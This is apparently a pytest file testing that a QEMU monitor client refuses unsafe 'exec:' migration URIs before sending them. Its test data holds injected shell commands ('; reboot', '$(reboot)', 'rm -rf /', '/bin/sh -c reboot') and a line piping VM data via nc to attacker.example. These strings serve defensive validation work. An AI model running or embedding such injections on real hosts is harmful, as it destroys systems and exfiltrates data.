"""Refusals happen before sending: unsafe exec: URIs and text QMP cannot carry.

Each refused call is followed by a harmless command; the fake server must see
exactly ``qmp_capabilities`` and that command, proving the refused message was
never written (the stream is ordered, so a written message would come first).
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from qmonexec.errors import InputError, UnsafeCommandError
from qmonexec.qmp import QMPClient, check_command
from tests.helpers.fake_qmp import FakeQMPServer, Peer

Fake = Callable[..., FakeQMPServer]

SAFE_SAVE = (
    "exec:{ dd bs=4096 seek=2 if=/dev/null && dd ibs=65536 obs=1048576; } 1<>/var/lib/vm/a.img"
)

UNSAFE_URIS = [
    "exec:cat >/tmp/x; reboot",
    "exec:{ dd bs=4096 seek=2 if=/dev/null && dd ibs=65536 obs=1048576; } 1<>/tmp/a.img; reboot",
    "exec:cat > $(reboot)",
    "exec:cat >`id`",
    "exec:rm -rf /",
    "exec:gzip -c | nc attacker.example 80",
]


def serving(peer: Peer) -> None:
    peer.negotiate()
    peer.serve()


def executes(server: FakeQMPServer) -> list[tuple[str, Any]]:
    return [(m["execute"], m.get("arguments")) for m in server.received_messages()]


@pytest.mark.parametrize("uri", UNSAFE_URIS)
def test_unsafe_exec_uri_is_refused_and_nothing_is_sent(fake: Fake, uri: str) -> None:
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        with pytest.raises(UnsafeCommandError) as info:
            qmp.migrate(uri)
        assert info.value.verdict is not None and not info.value.verdict.ok
        assert info.value.verdict.findings
        assert info.value.exit_code == 1
        with pytest.raises(UnsafeCommandError):
            qmp.execute("migrate-incoming", {"uri": uri})
        with pytest.raises(UnsafeCommandError):  # any depth, e.g. inside a list
            qmp.execute("x-future", {"channels": [{"uri": uri}]})
        qmp.execute("query-status")
    assert executes(server) == [("qmp_capabilities", None), ("query-status", None)]


def test_refusal_message_lists_the_findings(fake: Fake) -> None:
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp, pytest.raises(UnsafeCommandError) as info:
        qmp.migrate(UNSAFE_URIS[0])
    message = str(info.value)
    assert "reboot" in message
    for finding in info.value.verdict.findings:
        assert str(finding.message) in message


def test_safe_save_uri_is_sent_unchanged(fake: Fake) -> None:
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        qmp.migrate(SAFE_SAVE)
    assert executes(server)[1] == ("migrate", {"uri": SAFE_SAVE})


def test_non_exec_uris_are_not_validated(fake: Fake) -> None:
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        qmp.migrate("tcp:127.0.0.1:4444")
        qmp.execute("x", {"url": "exec:this is not the uri key; reboot"})
    assert [name for name, _ in executes(server)] == ["qmp_capabilities", "migrate", "x"]


@pytest.mark.parametrize(
    "arguments",
    [
        {"uri": "exec:cat >/tmp/\udcff"},  # a non-UTF-8 file name byte
        {"filename": "/tmp/a\0b"},
        {"filename": "\ud83d"},
        {"val": "\uffff"},
        {"nested": {"list": ["ok", "\udcc3\udca9"]}},
        {"k\udce9y": "value"},
    ],
)
def test_text_qmp_cannot_carry_is_refused_and_nothing_is_sent(
    fake: Fake, arguments: dict[str, Any]
) -> None:
    server = fake(serving)
    with QMPClient(server.address, timeout=2, allow_unvalidated_exec=True) as qmp:
        with pytest.raises(InputError) as info:
            qmp.execute("cmd", arguments)
        assert info.value.exit_code == 2
        qmp.execute("query-status")
    assert executes(server) == [("qmp_capabilities", None), ("query-status", None)]


def test_hmp_exec_lines_go_through_the_validator(fake: Fake) -> None:
    server = fake(serving)
    safe_line = f'migrate "{SAFE_SAVE}"'
    with QMPClient(server.address, timeout=2) as qmp:
        with pytest.raises(UnsafeCommandError, match="human-monitor-command"):
            qmp.execute("human-monitor-command", {"command-line": 'migrate "exec:cat >/x; id"'})
        with pytest.raises(UnsafeCommandError):  # not a migration command at all
            qmp.execute("human-monitor-command", {"command-line": "system_reset exec:"})
        qmp.execute("human-monitor-command", {"command-line": safe_line})
        qmp.execute("human-monitor-command", {"command-line": "info status"})
    assert executes(server)[1:] == [
        ("human-monitor-command", {"command-line": safe_line}),
        ("human-monitor-command", {"command-line": "info status"}),
    ]


def test_save_and_restore_must_go_in_their_direction(fake: Fake) -> None:
    restore = "exec:dd if=/var/lib/vm/a.img bs=4096 skip=2"
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        with pytest.raises(UnsafeCommandError, match="outgoing side"):
            qmp.migrate_incoming(SAFE_SAVE)
        with pytest.raises(UnsafeCommandError, match="incoming side"):
            qmp.migrate(restore)
        qmp.migrate_incoming(restore)
    assert executes(server)[1:] == [("migrate-incoming", {"uri": restore})]


def test_exec_channels_are_judged_as_the_equivalent_command(fake: Fake) -> None:
    def channels(*argv: Any) -> dict[str, Any]:
        return {"channels": [{"channel-type": "main", "addr": {"transport": "exec", "args": argv}}]}

    restore = channels("dd", "if=/var/lib/vm/a.img", "bs=4096", "skip=2")
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        with pytest.raises(UnsafeCommandError, match="/bin/sh"):
            qmp.execute("migrate", channels("/bin/sh", "-c", "reboot"))
        with pytest.raises(UnsafeCommandError):
            qmp.execute("migrate", {"channels": [{"addr": {"transport": "exec", "args": "x"}}]})
        qmp.execute("migrate-incoming", restore)
    assert executes(server)[1:] == [("migrate-incoming", json_list(restore))]


def json_list(value: Any) -> Any:
    """What the value looks like after a JSON round trip (tuples become lists)."""
    import json

    return json.loads(json.dumps(value))


def test_custom_policy_opt_out(fake: Fake) -> None:
    from qmonexec.shell import Policy

    uri = "exec:/usr/bin/tee /var/lib/vm/out"
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        with pytest.raises(UnsafeCommandError):
            qmp.migrate(uri)  # the default policy accepts only the save/restore shapes
        qmp.migrate(uri, policy=Policy.command())
    with QMPClient(fake(serving).address, timeout=2, policy=Policy.command()) as qmp:
        qmp.migrate(uri)
    assert executes(server)[1:] == [("migrate", {"uri": uri})]


def test_explicit_unvalidated_opt_out(fake: Fake) -> None:
    server = fake(serving)
    with QMPClient(server.address, timeout=2) as qmp:
        qmp.migrate(UNSAFE_URIS[0], allow_unvalidated_exec=True)
    with QMPClient(fake(serving).address, timeout=2, allow_unvalidated_exec=True) as qmp:
        qmp.migrate(UNSAFE_URIS[0])
        with pytest.raises(InputError):  # the text rule has no opt-out
            qmp.migrate("exec:cat >/tmp/\udcff")
    assert executes(server)[1:] == [("migrate", {"uri": UNSAFE_URIS[0]})]


def test_check_command_needs_no_connection() -> None:
    check_command("migrate", {"uri": SAFE_SAVE})
    with pytest.raises(UnsafeCommandError):
        check_command("migrate", {"uri": UNSAFE_URIS[0]})
    check_command("migrate", {"uri": UNSAFE_URIS[0]}, allow_unvalidated_exec=True)
